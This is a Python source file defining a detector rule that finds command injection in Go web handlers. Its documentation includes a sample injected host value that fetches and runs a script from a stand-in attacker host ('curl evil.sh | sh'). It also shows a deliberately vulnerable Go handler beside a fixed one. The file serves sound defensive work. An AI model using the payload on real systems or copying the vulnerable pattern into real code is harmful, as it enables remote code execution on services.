"""
## What it does
Follows request data from net/http, gorilla/mux, chi, httprouter, gin, echo and fiber handlers to a
command: the arguments of `exec.Command` / `exec.CommandContext` when the program is a shell
(`sh -c`, `bash -c`, `cmd /c`, `powershell`), and the program name itself when the request chooses
it (also `syscall.Exec` and `os.StartProcess`).

## Why it matters
A shell parses `;`, `&&`, `|`, `$(...)` and backticks: a host name such as `example.com; curl
evil.sh | sh` runs the attacker's commands with the service's privileges, its credentials and its
network access. A program name taken from the request runs any binary on the host.

## Example
    package main

    import (
        "net/http"
        "os/exec"
    )

    func ping(w http.ResponseWriter, r *http.Request) {
        host := r.FormValue("host")
        out, err := exec.Command("sh", "-c", "ping -c 1 "+host).CombinedOutput()
        if err != nil {
            http.Error(w, "ping failed", http.StatusBadGateway)
            return
        }
        w.Write(out)
    }

## Use instead
    package main

    import (
        "net/http"
        "os/exec"
    )

    func ping(w http.ResponseWriter, r *http.Request) {
        host := r.FormValue("host")
        out, err := exec.Command("ping", "-c", "1", "--", host).CombinedOutput()
        if err != nil {
            http.Error(w, "ping failed", http.StatusBadGateway)
            return
        }
        w.Write(out)
    }

## Known limitations
An argument vector without a shell is not reported, even though a value starting with `-` can still
be read as an option by the program: pass `--` before request values. A shell chosen through a
variable (`exec.Command(shell, "-c", cmd)`) is not recognised as a shell.
"""
from __future__ import annotations

from prodcheck.model import Confidence
from prodcheck.rules.go.security.taint_rule import go_taint_rule

RULE = go_taint_rule(
    "command", doc=__doc__, confidence=Confidence.HIGH,
    fix="Run the program directly with an argument list (`exec.Command(\"ping\", \"-c\", \"1\", \"--\", host)`), "
        "never through `sh -c`; choose the program from a fixed set.",
)
